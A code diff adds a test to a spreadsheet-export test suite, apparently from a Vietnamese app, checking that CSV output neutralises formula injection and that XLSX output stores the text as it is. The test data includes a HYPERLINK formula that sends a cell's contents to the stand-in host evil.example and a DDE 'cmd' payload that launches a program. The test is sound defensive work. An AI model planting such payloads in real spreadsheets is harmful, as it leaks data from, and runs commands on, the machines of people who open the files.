@@ -42,6 +42,29 @@ describe("writeSheet", () => {
     expect(text).toContain('"Quảng cáo ngoài trời; dòng 2\nxuống dòng"');
   });
 
+  it("keeps text that would run as a formula as text in a CSV, and as it is in an XLSX", async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+      "+SUM(1,2)",
+      "-1+cmd|' /C calc'!A0",
+      "@SUM(A1)",
+      "\t=1",
+    ];
+    const rows = hostile.map((title) => ({ code: "+84987654321", title, fee: -5 }));
+    const csv = (await writeSheet("csv", "x", COLUMNS, rows)).subarray(3).toString("utf8");
+    const lines = csv.split(/\r?\n/).slice(1, 1 + hostile.length);
+    expect(lines.map((line) => line.split('","')[1]!.replaceAll('""', '"'))).toEqual(
+      hostile.map((title) => `'${title}`),
+    );
+    // A phone number and a negative number are data, not formulas: untouched.
+    expect(lines[0]!.startsWith('"+84987654321",')).toBe(true);
+    expect(lines[0]!.endsWith(',"-5"')).toBe(true);
+
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load((await writeSheet("xlsx", "x", COLUMNS, rows)) as unknown as ArrayBuffer);
+    expect(book.worksheets[0]!.getRow(2).getCell(2).value).toBe(hostile[0]);
+  });
+
   it("names the file in ASCII with the day", () => {
     expect(exportFileName("bai-du-thi", "csv", new Date("2026-11-23T10:00:00Z"))).toBe(
       "bai-du-thi-2026-11-23.csv",
